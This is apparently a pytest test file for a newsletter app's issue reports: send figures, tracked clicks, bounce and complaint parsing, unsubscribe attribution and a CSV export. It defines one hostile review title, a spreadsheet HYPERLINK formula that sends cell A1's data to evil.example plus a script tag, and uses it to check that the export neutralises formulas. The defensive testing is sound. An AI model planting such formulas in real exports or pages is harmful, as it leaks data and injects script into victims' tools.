"""An issue's report: figures from a real send, real clicks through the redirect, real bounce
and complaint reports, a one-click unsubscribe; the unsubscribe attribution rule; clicks per
hour; the per-review CSV and its guard against formulas."""

from __future__ import annotations

import csv
import email
import io
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import datetime, timedelta
from email import policy
from email.message import EmailMessage

import pytest
from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from newsletter.config import Settings
from newsletter.db import transaction
from newsletter.delivery.fanout import start_send
from newsletter.delivery.sender import Sender
from newsletter.errors import NotFound
from newsletter.feedback.bounces import BouncePolicy, process_report
from newsletter.mail.memory import MemoryTransport
from newsletter.models import (
    Delivery,
    DeliveryState,
    Event,
    Issue,
    IssueStatus,
    Subscriber,
    utcnow,
)
from newsletter.services import Context, feedback, reports
from newsletter.services import subscribers as people
from newsletter.services.reports import neutralise
from newsletter.web import create_app
from tests.helpers.factories import NOW, issue_with, review, send_now, subscriber

READERS = ["ann", "bob", "cat", "dan", "eve", "fay"]
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click") </svg><script>x</script>'


def _messages(transport: MemoryTransport) -> dict[str, EmailMessage]:
    """Each reader's message (by name) and its envelope sender."""
    out: dict[str, EmailMessage] = {}
    for envelope, raw in transport.sent:
        message = email.message_from_bytes(raw, policy=policy.default)
        assert isinstance(message, EmailMessage)
        message["X-Test-Mail-From"] = envelope.mail_from
        out[envelope.rcpt_to.split("@")[0]] = message
    return out


def _review_links(message: EmailMessage) -> dict[str, str]:
    """The tracked path of each review's "Read the review" link, by the review's slug."""
    part = message.get_body(("html",))
    assert part is not None
    html = part.get_content()
    found: dict[str, str] = {}
    for path, text in re.findall(
        r'<a [^>]*href="https://news\.example\.org(/c/[^"]+)"[^>]*>(.*?)</a>', html, re.S
    ):
        if "Read the review" in text:
            found[str(len(found))] = path.replace("&amp;", "&")
    return found


def _dsn(to: str, rcpt: str, status: str) -> bytes:
    return (
        f"From: MAILER-DAEMON@mx.example.com\nTo: {to}\n"
        "Subject: Undelivered Mail Returned to Sender\nMIME-Version: 1.0\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\n\n'
        "--b\nContent-Type: text/plain\n\nThe mail could not be delivered.\n"
        "--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.com\n\n"
        f"Final-Recipient: rfc822; {rcpt}\nAction: failed\nStatus: {status}\n"
        f"Diagnostic-Code: smtp; 550 {status} no\n--b--\n"
    ).encode()


def _arf(to: str, rcpt: str) -> bytes:
    return (
        f"From: feedback@isp.example\nTo: {to}\nSubject: complaint\nMIME-Version: 1.0\n"
        'Content-Type: multipart/report; report-type=feedback-report; boundary="b"\n\n'
        "--b\nContent-Type: text/plain\n\nA complaint.\n"
        "--b\nContent-Type: message/feedback-report\n\nFeedback-Type: abuse\n"
        f"User-Agent: isp/1.0\nVersion: 1\nOriginal-Rcpt-To: {rcpt}\n--b--\n"
    ).encode()


@pytest.fixture
def sent(
    settings: Settings, factory: sessionmaker[Session], client: FlaskClient
) -> tuple[Settings, int, dict[str, EmailMessage]]:
    """An issue of three reviews (one with a hostile title) really sent to six readers, with a
    bounce address so that bounce reports find their deliveries."""
    verp = settings.with_overrides(bounce_address="bounces@reviews.example.com")
    records = [review("dune", "Film", 1), review("alien", "Film", 2)]
    records.append(replace(review("heat", "Film", 3), title=HOSTILE))
    emails = [f"{name}@example.com" for name in READERS]
    issue_id = issue_with(factory, verp, records, emails)
    transport = MemoryTransport()
    send_now(factory, verp, issue_id, transport)
    return verp, issue_id, _messages(transport)


def test_the_figures_of_a_real_send(
    sent: tuple[Settings, int, dict[str, EmailMessage]],
    client: FlaskClient,
    services: Context,
    factory: sessionmaker[Session],
) -> None:
    verp, issue_id, mail = sent
    # clicks through the real redirect: ann clicks the first review twice and the second
    # once; bob clicks the first
    ann, bob = _review_links(mail["ann"]), _review_links(mail["bob"])
    for path in (ann["0"], ann["0"], ann["1"], bob["0"]):
        assert client.get(path).status_code == 302
    # cat's address does not exist, dan's mailbox is full, eve reports spam
    bounce_policy = BouncePolicy.from_settings(verp)
    for raw in (
        _dsn(str(mail["cat"]["X-Test-Mail-From"]), "cat@example.com", "5.1.1"),
        _dsn(str(mail["dan"]["X-Test-Mail-From"]), "dan@example.com", "4.4.7"),
        _arf(str(mail["eve"]["X-Test-Mail-From"]), "eve@example.com"),
    ):
        with transaction(factory) as session:
            assert process_report(session, raw, bounce_policy, utcnow()).issue_id == issue_id
    # fay unsubscribes with the link of her List-Unsubscribe header (the service the one-click
    # POST calls: the link names no issue)
    link = re.search(r"<https://news\.example\.org/u/([^>]+)>", mail["fay"]["List-Unsubscribe"])
    assert link is not None
    people.unsubscribe(services, link.group(1), how="one-click", issue_id=None)

    got = reports.report(services, issue_id)
    assert (got.recipients, got.delivered, got.failed, got.unknown, got.pending) == (6, 5, 1, 0, 0)
    assert (got.bounced_hard, got.bounced_soft, got.complained) == (1, 1, 1)
    assert got.unsubscribed == 1
    assert got.opens is None  # not tracked
    assert (got.clickers, got.clicks) == (2, 3)
    assert got.status == "sent" and got.started_at is not None and got.sent
    assert [(r.section, r.position) for r in got.reviews] == [("new", 1), ("new", 2), ("new", 3)]
    first, second, third = got.reviews
    assert (first.unique_clicks, first.clicks, first.click_rate) == (2, 2, 2 / 5)
    assert (second.unique_clicks, second.clicks) == (1, 1)
    assert (third.unique_clicks, third.title) == (0, HOSTILE)
    assert first.url.startswith("https://reviews.example.com/")
    assert len(got.clicks_by_hour) == 72 and got.clicks_by_hour[0] == 3
    assert sum(got.clicks_by_hour) == 3

    rows = list(csv.reader(io.StringIO(reports.report_csv(services, issue_id), newline="")))
    assert rows[0] == list(reports.CSV_COLUMNS)
    assert rows[1][2:] == [first.title, first.url, "2", "2", "0.4000"]
    assert rows[3][2] == "'" + HOSTILE  # text in a spreadsheet, never a formula


def test_opens_are_counted_only_where_tracked(
    settings: Settings, factory: sessionmaker[Session]
) -> None:
    on = settings.with_overrides(track_opens=True)
    issue_id = issue_with(factory, on, [review("dune", "Film")], ["ann@example.com"])
    transport = MemoryTransport()
    send_now(factory, on, issue_id, transport)
    html = _messages(transport)["ann"].get_body(("html",))
    assert html is not None
    pixel = re.search(r'src="https://news\.example\.org(/o/[^"]+)"', html.get_content())
    assert pixel is not None
    client = create_app(on, factory=factory, transport=MemoryTransport()).test_client()
    client.get(pixel.group(1))
    client.get(pixel.group(1))  # a second open: still one reader
    assert reports.report(Context(on, factory), issue_id).opens == 1
    assert reports.report(Context(settings, factory), issue_id).opens is None


def _stopped(at: datetime) -> Callable[[], datetime]:
    return lambda: at


def test_clicks_per_hour_count_from_the_start_of_the_send(
    settings: Settings, factory: sessionmaker[Session]
) -> None:
    emails = [f"r{i}@example.com" for i in range(4)]
    issue_id = issue_with(factory, settings, [review("dune", "Film")], emails)
    with transaction(factory) as session:
        start_send(session, settings, issue_id, NOW)  # the send started at NOW
    transport = MemoryTransport()
    Sender(factory, settings, transport).run_batch(issue_id)
    paths = [p["0"] for p in map(_review_links, _messages(transport).values())]
    for path, hours in zip(paths, (0.5, 5.2, 5.9, 80), strict=True):
        clock = Context(settings, factory, clock=_stopped(NOW + timedelta(hours=hours)))
        _c, link, recipient = path.strip("/").split("/")
        feedback.follow_link(clock, link, recipient)
    got = reports.report(Context(settings, factory), issue_id)
    assert got.started_at == NOW
    assert got.clicks_by_hour[0] == 1 and got.clicks_by_hour[5] == 2
    assert sum(got.clicks_by_hour) == 3  # the click 80 hours in is after the window
    assert got.clicks == 4


def _seed_two_issues(factory: sessionmaker[Session]) -> tuple[int, int, dict[str, int]]:
    """Issue A sent at NOW to five readers, issue B a week later to all but ``only_a``."""
    week = timedelta(days=7)
    with transaction(factory) as session:
        issues = []
        for n, at in enumerate((NOW, NOW + week)):
            row = Issue(
                week_key=f"2026-W4{8 + n}",
                status=IssueStatus.SENT,
                window_start=at - week,
                cutoff=at,
                sent_at=at,
            )
            session.add(row)
            issues.append(row)
        session.flush()
        names = ["early", "soon", "later", "tagged", "only_a"]
        people = {name: subscriber(session, f"{name}@example.com").id for name in names}
        for issue in issues:
            for name, sid in people.items():
                if name == "only_a" and issue is issues[1]:
                    continue
                session.add(
                    Delivery(
                        issue_id=issue.id,
                        subscriber_id=sid,
                        variant_mask=0,
                        state=DeliveryState.SENT,
                        message_id=f"<{issue.id}.{sid}@x>",
                        sent_at=issue.sent_at,
                        created_at=issue.sent_at,
                    )
                )
        return issues[0].id, issues[1].id, people


def _unsubscribe(session: Session, sid: int, at: datetime, issue_id: int | None = None) -> None:
    session.add(Event(kind="unsubscribe", subscriber_id=sid, issue_id=issue_id, created_at=at))


def test_an_unsubscribe_counts_for_the_latest_issue_received_before_it(
    settings: Settings, factory: sessionmaker[Session]
) -> None:
    a, b, people = _seed_two_issues(factory)
    with transaction(factory) as session:
        _unsubscribe(session, people["early"], NOW - timedelta(hours=1))  # before A: neither
        _unsubscribe(session, people["soon"], NOW + timedelta(days=1))  # after A: A's
        _unsubscribe(session, people["later"], NOW + timedelta(days=8))  # after B: B's
        _unsubscribe(session, people["tagged"], NOW + timedelta(days=8), a)  # tagged: A's
        _unsubscribe(session, people["only_a"], NOW + timedelta(days=9))  # got no B: A's
    context = Context(settings, factory)
    assert reports.report(context, a).unsubscribed == 3
    assert reports.report(context, b).unsubscribed == 1


def test_an_issue_never_sent_and_an_unknown_one(
    settings: Settings, factory: sessionmaker[Session], services: Context
) -> None:
    issue_id = issue_with(factory, settings, [review("dune", "Film")], ["ann@example.com"])
    got = reports.report(services, issue_id)
    assert not got.sent and got.started_at is None
    assert (got.recipients, got.delivered, got.clicks) == (0, 0, 0)
    assert got.clicks_by_hour == (0,) * 72
    assert [(r.unique_clicks, r.click_rate) for r in got.reviews] == [(0, 0.0)]
    assert got.subject  # the automatic one, or the plain name before composition
    with pytest.raises(NotFound, match="issue 999"):
        reports.report(services, 999)
    with factory() as session:
        assert session.scalar(select(Subscriber.email)) == "ann@example.com"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Dune: Part Two", "Dune: Part Two"),
        ("A = B", "A = B"),
    ],
)
def test_formula_cells_are_neutralised(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


def test_the_csv_quotes_what_needs_quoting() -> None:
    figures = reports.ReviewFigures(
        1, 'A "quoted",\r\nmulti-line title', "https://x/", "new", 1, 3, 4, 0.5
    )
    text = reports.figures_csv((figures,))
    assert text.endswith("\r\n") and text.count("\r\n") == 3  # header, row, and the title's own
    assert list(csv.reader(io.StringIO(text, newline="")))[1][2] == figures.title
